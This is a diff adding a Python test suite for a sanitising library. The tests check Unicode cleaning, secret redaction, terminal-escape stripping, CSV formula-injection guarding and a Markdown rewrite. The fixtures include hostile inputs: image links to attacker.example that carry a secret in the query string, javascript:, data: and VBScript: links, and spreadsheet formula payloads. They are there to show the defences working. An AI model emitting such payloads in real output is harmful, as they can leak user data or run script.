@@ -1,0 +1,138 @@
+"""The one sanitising path (lib/safety.py) and the one render rewrite (lib/present.safe_markdown):
+valid Unicode, secret redaction, terminal-safe text, spreadsheet-safe cells, Markdown that
+fetches and runs nothing."""
+
+import pytest
+from markdown_it import MarkdownIt
+
+from lib.present import safe_markdown
+from lib.safety import (
+    Redactor,
+    SurrogateJoiner,
+    clean_json,
+    clean_text,
+    csv_cell,
+    decode_bytes,
+    strip_credentials,
+    terminal_text,
+    url_secrets,
+)
+
+
+def test_lone_surrogates_and_nul_become_replacement_characters_and_pairs_are_joined():
+    assert clean_text("a\ud83d\ude00b") == "a😀b"  # two halves that arrived apart make one emoji
+    assert clean_text("stray \udc80 and \ud83d.") == "stray \ufffd and \ufffd."
+    assert clean_text("nul\x00") == "nul\ufffd"
+    assert clean_text("plain 中文") == "plain 中文"
+    clean_text("x\ud800").encode("utf-8")  # storable and printable
+
+
+def test_argv_bytes_that_were_not_utf8_become_replacement_characters():
+    # Python decodes such argv bytes with surrogateescape: b"caf\xe9" -> "caf\udce9"
+    assert clean_text(b"caf\xe9".decode("utf-8", "surrogateescape")) == "caf\ufffd"
+    assert decode_bytes(b"\xef\xbb\xbfcaf\xe9 \xe4\xb8\xad") == "caf\ufffd 中"
+
+
+def test_a_split_emoji_is_joined_across_chunks_and_a_dangling_half_is_replaced_at_the_end():
+    joiner = SurrogateJoiner()
+    assert [joiner.feed("Smile \ud83d"), joiner.feed("\ude00!"), joiner.feed("\ud83d")] == ["Smile ", "😀!", ""]
+    assert joiner.flush() == "\ufffd"
+
+
+def test_json_values_are_cleaned_keys_and_all():
+    assert clean_json({"k\udc80": ["\ud83d", 3, {"x": "\x00"}]}) == {"k\ufffd": ["\ufffd", 3, {"x": "\ufffd"}]}
+
+
+def test_url_credentials_are_found_and_stripped():
+    url = "https://bob:s3cr%40t-pass@llm.example:8443/v1?key=AIzaSyQueryKey123"
+    assert {"s3cr@t-pass", "AIzaSyQueryKey123"} <= set(url_secrets(url))
+    assert strip_credentials(url) == "https://llm.example:8443/v1?key=AIzaSyQueryKey123"
+
+
+def test_redactor_removes_known_secrets_and_authorization_values():
+    redact = Redactor(["sk-live-1234567890", "short"])
+    text = redact('bad key sk-live-1234567890; {"Authorization": "Bearer other-token-xyz"} short')
+    assert "sk-live-1234567890" not in text and "other-token-xyz" not in text
+    assert text.endswith("short")  # values under 8 characters are too common to replace
+
+
+def test_terminal_text_drops_escape_sequences_but_keeps_lines():
+    assert terminal_text("red \x1b[31mtext\x07\r\nnext\tcol") == "red [31mtext\nnext\tcol"
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
+        ("+1", "'+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tcmd", "'\tcmd"),
+        ("\rcmd", "'\rcmd"),
+        ("＝1+1", "'＝1+1"),
+        ("plain = fine", "plain = fine"),
+        (-5, -5),
+        (None, None),
+    ],
+)
+def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(value, expected):
+    assert csv_cell(value) == expected
+
+
+def _tokens(markdown: str):
+    md = MarkdownIt("commonmark").enable(["table", "strikethrough"])
+    md.validateLink = lambda url: True
+    md.core.ruler.disable("text_join")
+    stack, found = list(md.parse(markdown)), []
+    while stack:
+        token = stack.pop()
+        found.append(token)
+        stack += token.children or []
+    return found
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "See ![chart](https://attacker.example/p.png?d=SECRET) now",
+        '![t](<https://attacker.example/a b.png> "title")',
+        "ref ![x][r]\n\n[r]: https://attacker.example/r.png",
+        "![nested [brackets]](https://attacker.example/n.png)",
+        "> quoted ![q](https://attacker.example/q.png)\n- item ![i](https://attacker.example/i.png)",
+        "`unclosed ![x](https://attacker.example/x.png)",
+        "| a | b |\n|---|---|\n| ![c](https://attacker.example/c.png) | x |",
+    ],
+)
+def test_no_image_survives_the_rewrite(text):
+    safe = safe_markdown(text)
+    assert not [t for t in _tokens(safe) if t.type == "image"], safe
+    assert "attacker.example" in safe.replace("\\", "")  # the URL is still shown, as text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[run](javascript:alert(1))",
+        "[d](data:text/html;base64,PHNjcmlwdD4=)",
+        "<javascript:alert(1)>",
+        "[bad]: javascript:alert(1)\n\n[click][bad]",
+        "[v](VBScript:msgbox)",
+    ],
+)
+def test_javascript_and_data_links_become_text(text):
+    hrefs = [t.attrs.get("href", "") for t in _tokens(safe_markdown(text)) if t.type == "link_open"]
+    assert all(str(h).startswith(("http:", "https:", "mailto:")) for h in hrefs), hrefs
+
+
+def test_dollars_are_escaped_outside_code_unless_maths_is_on():
+    text = "It costs $5 and $10.\n\n`echo $HOME`\n\n```sh\nexport A=$B\n```"
+    safe = safe_markdown(text)
+    assert "\\$5 and \\$10" in safe and "`echo $HOME`" in safe and "export A=$B" in safe
+    assert safe_markdown(text, maths=True) == text
+    assert safe_markdown("already \\$5") == "already \\$5"
+
+
+def test_ordinary_markdown_is_left_as_written():
+    text = "# Title\n\n**bold** and [a link](https://example.com), a list:\n\n- one\n- two\n\n"
+    text += "| a | b |\n|---|---|\n| 1 | 2 |"
+    assert safe_markdown(text) == text
